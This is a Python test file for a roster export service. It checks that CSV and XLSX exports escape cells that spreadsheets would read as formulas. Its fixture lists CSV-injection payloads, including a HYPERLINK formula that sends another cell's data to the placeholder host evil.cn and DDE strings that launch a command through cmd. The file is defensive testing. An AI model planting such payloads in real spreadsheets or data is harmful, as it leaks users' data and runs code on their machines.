"""Roster exports that are safe to open in Excel and WPS: no cell is ever a formula."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from panel_service.reports.exports import ROSTER_COLUMNS, roster_csv, roster_xlsx

from .. import factories

# What OWASP's CSV-injection advice lists: a cell starting with any of these is a formula
# (or the start of one) to a spreadsheet.
DANGEROUS = [
    '=HYPERLINK("http://evil.cn/?"&B2,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
NAME, MOBILE = ROSTER_COLUMNS.index("name"), ROSTER_COLUMNS.index("mobile")


@pytest.fixture
def members(session):
    rows = [factories.PanelistFactory(name=name) for name in DANGEROUS]
    rows.append(factories.PanelistFactory(name="王五"))
    session.commit()
    return rows


def test_csv_cells_that_would_be_formulas_are_neutralised(session, members):
    rows = list(csv.reader(io.StringIO(roster_csv(session=session).decode("utf-8-sig"))))
    names = [row[NAME] for row in rows[1:]]
    assert names == [f"'{name}" for name in DANGEROUS] + ["王五"]
    # The mobile (+86...) stays text: a bare +86... is a number, or a formula, to Excel.
    assert [row[MOBILE] for row in rows[1:]] == [f"'{m.mobile}" for m in members]
    trigger = ("=", "+", "-", "@", "\t", "\r")
    assert not any(cell.startswith(trigger) for row in rows for cell in row)


def test_xlsx_cells_are_strings_never_formulas(session, members):
    sheet = load_workbook(io.BytesIO(roster_xlsx(session=session))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    body = list(sheet.iter_rows(min_row=2))
    # (XML reads a stored CR back as LF.)
    assert [row[NAME].value for row in body] == [n.replace("\r", "\n") for n in DANGEROUS] + [
        "王五"
    ]
    assert all(row[NAME].data_type == "s" for row in body)
    # Marked as typed with a leading ', so editing the cell does not make it a formula.
    assert all(row[NAME].quotePrefix for row in body[: len(DANGEROUS)])
    assert [(row[MOBILE].value, row[MOBILE].data_type) for row in body] == [
        (m.mobile, "s") for m in members
    ]
